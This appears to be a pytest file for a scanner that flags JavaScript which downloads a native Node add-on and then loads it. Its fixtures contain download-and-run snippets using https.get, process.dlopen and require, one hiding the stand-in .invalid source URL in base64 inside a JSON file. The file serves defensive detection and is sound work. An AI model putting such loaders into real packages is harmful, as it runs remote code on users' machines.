"""``process.dlopen(module, path)`` (and ``require`` of a ``.node`` file) loads a native add-on: its
machine code runs in the process. Loading a file this script downloaded runs the download.
Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors


@pytest.mark.parametrize(
    ("script", "line"),
    [
        (
            "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\n"
            "const meta = require('../data/native.json');\n"
            "const where = path.join(os.tmpdir(), meta.file);\n"
            "https.get(Buffer.from(meta.src, 'base64').toString() + '/' + meta.file, res => {\n"
            "  res.pipe(fs.createWriteStream(where)).on('finish', () => {\n"
            "    const holder = { exports: {} };\n"
            "    process.dlopen(holder, where);\n"
            "  });\n"
            "});\n",
            7,
        ),
        (
            "const fs = require('fs');\n"
            "const https = require('https');\n"
            "const out = '/tmp/fastcsv.node';\n"
            "https.get('https://bin.addon-mirror.invalid/fastcsv.node', r => {\n"
            "  r.pipe(fs.createWriteStream(out)).on('finish', () => { const m = require(out); m.go(); });\n"
            "});\n",
            5,
        ),
    ],
)
def test_a_downloaded_native_addon_loaded_is_an_error(tmp_path: Path, script: str, line: int) -> None:
    data = '{"file": "fastcsv-linux.node", "src": "aHR0cHM6Ly9iaW4uYWRkb24tbWlycm9yLmludmFsaWQ="}'
    errors = scan_errors(tmp_path, {"lib/load.js": script, "data/native.json": data})
    assert ("DOWNLOAD_AND_RUN", "lib/load.js", line) in errors


def test_a_bundled_native_addon_loaded_stays_clean(tmp_path: Path) -> None:
    script = (
        "const path = require('path');\n"
        "const holder = { exports: {} };\n"
        "process.dlopen(holder, path.join(__dirname, '..', 'build', 'Release', 'fastcsv.node'));\n"
        "module.exports = holder.exports;\n"
    )
    assert scan_errors(tmp_path, {"lib/load.js": script}) == set()
